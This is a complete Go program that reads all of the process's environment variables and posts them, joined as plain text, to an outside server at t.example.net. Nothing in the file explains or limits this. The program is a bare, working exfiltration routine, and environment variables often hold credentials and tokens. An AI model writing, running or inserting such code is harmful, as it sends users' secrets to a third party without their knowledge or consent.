package main

import (
	"net/http"
	"os"
	"strings"
)

func main() {
	body := strings.NewReader(strings.Join(os.Environ(), "\n"))
	http.Post("https://t.example.net/e", "text/plain", body)
}
